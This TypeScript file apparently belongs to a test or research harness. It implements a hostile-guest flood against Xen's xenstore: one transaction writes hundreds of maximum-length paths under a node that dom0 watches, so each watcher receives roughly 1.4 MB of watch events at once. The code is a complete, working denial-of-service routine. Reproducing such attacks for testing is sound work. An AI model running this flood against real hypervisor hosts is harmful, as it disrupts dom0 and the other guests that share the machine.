// What a hostile guest does to xenstore's watchers: one transaction that writes `count` nodes
// with paths as long as its quota allows (~2,000 bytes each) below `base`, a node dom0's
// backend watches (the guest's own frontend `state`). Every write is a watch event of that
// length for each watcher of `base`: 700 of them are ~1.4 MB at once.
import type { XsClient } from '../../drivers/xenstore/client.js';

const NAME = 120; // characters per path component
const FANOUT = 15; // children per node: 15 x 121 bytes stays under the 2,048-byte node size

/** `count` distinct leaf paths below `base`, each `depth` components long. */
export function longPaths(base: string, count: number, depth: number): string[] {
  const out: string[] = [];
  for (let i = 0; i < count; i++) {
    const parts: string[] = [];
    let n = i;
    for (let d = 0; d < depth; d++) {
      const digit = n % FANOUT;
      n = Math.floor(n / FANOUT);
      parts.unshift(`${digit.toString(FANOUT)}${'x'.repeat(NAME - 1)}`);
    }
    out.push(`${base}/${parts.join('/')}`);
  }
  return out;
}

/** The deepest paths the guest's 2,048-byte relative path quota allows below `base`. */
export function depthFor(base: string, domid: number): number {
  const rel = base.length - `/local/domain/${domid}/`.length + 1;
  return Math.floor((2048 - rel) / (NAME + 1));
}

/** Commit the flood as the guest (`guestXs` is the guest's own connection). */
export async function floodTransaction(guestXs: XsClient, domid: number, base: string, count = 700): Promise<number> {
  const paths = longPaths(base, count, depthFor(base, domid));
  await guestXs.transaction(async (t) => {
    for (const p of paths) await t.write(p, '');
  });
  return paths.reduce((n, p) => n + p.length, 0);
}
